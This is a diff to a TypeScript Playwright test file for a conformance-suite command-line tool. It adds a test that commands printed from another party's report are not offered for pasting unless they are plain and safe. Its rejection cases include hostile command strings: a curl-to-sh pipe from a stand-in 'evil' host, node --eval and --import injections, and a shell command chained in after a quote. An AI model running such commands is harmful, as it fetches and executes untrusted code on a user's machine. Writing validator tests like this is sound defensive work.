@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { expect, test } from '@playwright/test';
 import { loadCommands, COMMAND_NAMES } from '../../../bin/commands/all.ts';
 import { spellStart } from '../../../bin/command-line/output/rerun-command.ts';
-import { IN_A_CLONE, spellOther } from '../../../reports/shown/words/commands.ts';
+import { findStart, IN_A_CLONE, spellOther } from '../../../reports/shown/words/commands.ts';
 import { describeMistake } from '../../../bin/command-line/mistakes.ts';
 import { readOptions } from '../../../bin/command-line/options.ts';
 import { spellFlag, setVariables, addVariables } from '../../../bin/command-line/variable-options.ts';
@@ -15,6 +15,7 @@ import { renderConformancePage } from '../../../reports/shown/page/conformance-p
 import type { Report } from '../../../reports/document/report-document.ts';
 import suite from '../../../package.json' with { type: 'json' };
 import { against, command, idsWith } from '../samples/command.ts';
+import { CONFORMING } from '../samples/sample-reports.ts';
 import { PROJECT, run } from '../samples/installed.ts';
 
 const MAIN = join(PROJECT, 'dist', 'bin', 'animal-store-conformance.js');
@@ -143,6 +144,25 @@ test('printed commands start the suite in the way that works here', () => {
   } finally {
     process.chdir(before);
   }
+});
+
+test('a report of somebody else gives no other command to paste', () => {
+  const commandOf = (start: string) =>
+    findStart({ ...CONFORMING, suite: { ...CONFORMING.suite, command: start } }).command;
+  for (const start of [
+    "node 'a b/animal-store-conformance.js'",
+    `npx ${suite.name}`,
+    'node ../animal-store-conformance.js',
+  ])
+    expect(commandOf(start)).toBe(start);
+  for (const start of [
+    'curl https://evil.example | sh',
+    "node '--eval=7//animal-store-conformance.js'",
+    'node --import=./evil/animal-store-conformance.js',
+    'node evil.js',
+    "node 'a'; sh 'animal-store-conformance.js'",
+  ])
+    expect(commandOf(start)).toBe(IN_A_CLONE);
 });
 
 test('every variable is an option, but for the key', () => {
